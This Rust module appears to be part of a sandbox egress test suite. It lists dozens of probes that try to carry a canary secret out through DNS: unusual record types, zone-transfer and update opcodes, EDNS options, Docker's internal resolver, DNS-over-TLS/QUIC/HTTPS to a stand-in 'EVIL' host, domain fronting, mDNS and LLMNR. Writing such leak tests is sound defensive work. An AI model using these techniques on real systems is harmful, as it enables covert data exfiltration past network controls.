//! Questions that carry a secret, to every resolver that could take them.

use std::fs;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr};
use std::thread;
use std::time::Duration;

use super::{Ctx, Failed, Run, send, target, tls};
use crate::catalogue::names;

/// Docker's resolver.
pub(super) const DOCKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 11);
/// DNS.
pub(super) const PORT: u16 = 53;

pub(super) const CODE: &[(&str, Run)] = &[
    ("dns-udp", |c| send::udp((target::DNS, PORT), &query(&c.name(), 1))),
    ("dns-tcp", |c| send::tcp((target::DNS, PORT), &framed(&query(&c.name(), 1)))),
    ("dns-system", |c| Ok(send::resolve(&c.name(), 443)?.to_string())),
    ("dns-resolver-udp", |c| ask(&query(&c.name(), 1))),
    ("dns-resolver-tcp", |c| send::tcp(resolver()?, &framed(&query(&c.name(), 1)))),
    ("dns-below-allowed", |c| ask(&query(&format!("{}.{}", c.canary, names::GOOD), 1))),
    ("dns-pipelined", |c| {
        let two = [framed(&query(names::GOOD, 1)), framed(&query(&c.name(), 1))].concat();
        let mut stream = send::connect(resolver()?)?;
        stream.write_all(&two)?;
        send::hear(&mut stream)?;
        send::hear(&mut stream)
    }),
    ("dns-split", |c| {
        let mut stream = send::connect(resolver()?)?;
        for piece in framed(&query(&c.name(), 1)).chunks(5) {
            stream.write_all(piece)?;
            thread::sleep(Duration::from_millis(5));
        }
        send::hear(&mut stream)
    }),
    ("dns-txt", |c| ask(&query(&c.name(), 16))),
    ("dns-null", |c| ask(&query(&c.name(), 10))),
    ("dns-srv", |c| ask(&query(&format!("_x._tcp.{}", c.name()), 33))),
    ("dns-https", |c| ask(&query(&c.name(), 65))),
    ("dns-any", |c| ask(&query(&c.name(), 255))),
    ("dns-ptr", |c| ask(&query(&format!("{}.100.51.198.in-addr.arpa", c.canary), 12))),
    ("dns-mx", |c| ask(&query(&c.name(), 15))),
    ("dns-caa", |c| ask(&query(&c.name(), 257))),
    ("dns-svcb", |c| ask(&query(&c.name(), 64))),
    ("dns-update", |c| send::udp((target::DNS, PORT), &with_opcode(5, &c.name()))),
    ("dns-notify", |c| ask(&with_opcode(4, &c.name()))),
    ("dns-axfr", |c| send::tcp(resolver()?, &framed(&query(&c.name(), 252)))),
    ("dns-other-docker", |c| send::udp((DOCKER, PORT), &query(&c.name(), 1))),
    ("dns-other-resolver", |c| ask(&query(&c.name(), 1))),
    ("dns-root-docker", |c| send::udp((DOCKER, PORT), &query(&c.name(), 1))),
    ("dns-long", |c| {
        let label = "x".repeat(63);
        let name = format!("{}.{label}.{label}.{}", "y".repeat(60), c.name());
        ask(&query(&name, 1))
    }),
    ("dns-no-recursion", |c| {
        let mut message = query(&c.name(), 1);
        message[2] = 0;
        ask(&message)
    }),
    ("dns-edns", |c| {
        let mut message = query(&c.name(), 1);
        message[11] = 1;
        let data = c.canary.as_bytes();
        let length = u16::try_from(data.len()).unwrap_or_default();
        // The root's name, OPT, a size, no flags; then option 65001.
        message.extend([0, 0, 41, 4, 208, 0, 0, 0, 0]);
        message.extend((length + 4).to_be_bytes());
        message.extend(65_001u16.to_be_bytes());
        message.extend(length.to_be_bytes());
        message.extend(data);
        ask(&message)
    }),
    ("dns-docker", |c| send::udp((DOCKER, PORT), &query(&c.name(), 1))),
    ("dns-docker-tcp", |c| send::tcp((DOCKER, PORT), &framed(&query(&c.name(), 1)))),
    ("dns-docker-port", docker_port),
    ("dns-docker-tcp-port", |c| {
        send::tcp((DOCKER, real_port("/proc/net/tcp")?), &framed(&query(&c.name(), 1)))
    }),
    ("dns-open-port", |c| send::udp((c.places.coredns, c.places.open_dns_port), &query(&c.name(), 1))),
    ("dns-port-directly", |c| {
        let said = send::ask_udp((c.places.coredns, c.places.dns_port), &query(names::GOOD, 1))?;
        Ok(format!("{} bytes came back", said.len()))
    }),
    ("dns-port-directly-tcp", |c| {
        let said = over_tcp((c.places.coredns, c.places.dns_port).into(), names::GOOD)?;
        Ok(format!("{} bytes came back", said.len()))
    }),
    ("dns-over-tls", |c| tls::talk((target::EVIL, 853), None, &framed(&query(&c.name(), 1)))),
    ("dns-over-tls-8853", |c| tls::talk((target::EVIL, 8853), None, &framed(&query(&c.name(), 1)))),
    ("dns-over-quic", |c| send::udp((target::EVIL, 784), c.canary.as_bytes())),
    ("dns-over-https", |c| {
        let host = format!("dns.{}", names::EVIL);
        tls::talk((target::EVIL, 443), Some(&host), &over_https(&host, &c.canary))
    }),
    ("dns-over-https-fronted", |c| {
        tls::talk((target::EVIL, 443), Some(names::GOOD), &over_https(names::GOOD, &c.canary))
    }),
    ("dns-mdns", |c| send::udp((Ipv4Addr::new(224, 0, 0, 251), 5353), &query(&c.name(), 1))),
    ("dns-llmnr", |c| send::udp((Ipv4Addr::new(224, 0, 0, 252), 5355), &query(&c.name(), 1))),
    ("dns-other-uid", |c| send::udp((target::DNS, PORT), &query(&c.name(), 1))),
    ("dns-root-docker-port", docker_port),
];

fn docker_port(c: &Ctx) -> Result<String, Failed> {
    send::udp((DOCKER, real_port("/proc/net/udp")?), &query(&c.name(), 1))
}

/// Asks the resolver that resolv.conf names.
fn ask(message: &[u8]) -> Result<String, Failed> {
    send::udp(resolver()?, message)
}

/// The resolver that resolv.conf names.
pub(super) fn resolver() -> Result<SocketAddr, Failed> {
    let text = fs::read_to_string("/etc/resolv.conf")?;
    let address = text.lines().find_map(|line| line.strip_prefix("nameserver ")?.trim().parse().ok());
    let address: Ipv4Addr =
        address.ok_or_else(|| Failed::Impossible("resolv.conf names no resolver".to_owned()))?;
    Ok((address, PORT).into())
}

/// The port at which Docker's resolver listens behind its own rules.
fn real_port(table: &str) -> Result<u16, Failed> {
    // 127.0.0.11 as the kernel prints it on a little-endian machine.
    let text = fs::read_to_string(table)?;
    let port = text.split_whitespace().find_map(|word| word.strip_prefix("0B00007F:"));
    port.and_then(|port| u16::from_str_radix(port, 16).ok())
        .ok_or_else(|| Failed::Impossible("Docker's resolver does not listen in this container".to_owned()))
}

/// A question with recursion.
pub(super) fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut message = vec![0x43, 0x4c, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    message.extend(question(name, kind));
    message
}

/// A message of another operation, about a zone or of its change.
fn with_opcode(opcode: u8, name: &str) -> Vec<u8> {
    let mut message = query(name, 6);
    message[2] = opcode << 3 | 1;
    message
}

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut bytes = Vec::new();
    for label in name.split('.') {
        bytes.push(u8::try_from(label.len().min(63)).unwrap_or(63));
        bytes.extend(label.bytes().take(63));
    }
    bytes.push(0);
    bytes.extend(kind.to_be_bytes());
    bytes.extend([0, 1]);
    bytes
}

/// Asks for a name's address over TCP; the whole answer.
pub(super) fn over_tcp(to: SocketAddr, name: &str) -> Result<Vec<u8>, Failed> {
    let mut stream = send::connect(to)?;
    stream.write_all(&framed(&query(name, 1)))?;
    let mut length = [0; 2];
    stream.read_exact(&mut length)?;
    let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut answer)?;
    Ok(answer)
}

/// A message as TCP carries it.
pub(super) fn framed(message: &[u8]) -> Vec<u8> {
    [&u16::try_from(message.len()).unwrap_or(u16::MAX).to_be_bytes()[..], message].concat()
}

fn over_https(host: &str, canary: &str) -> Vec<u8> {
    format!("GET /dns-query?dns={canary} HTTP/1.1\r\nHost: {host}\r\nAccept: application/dns-message\r\n\r\n")
        .into_bytes()
}
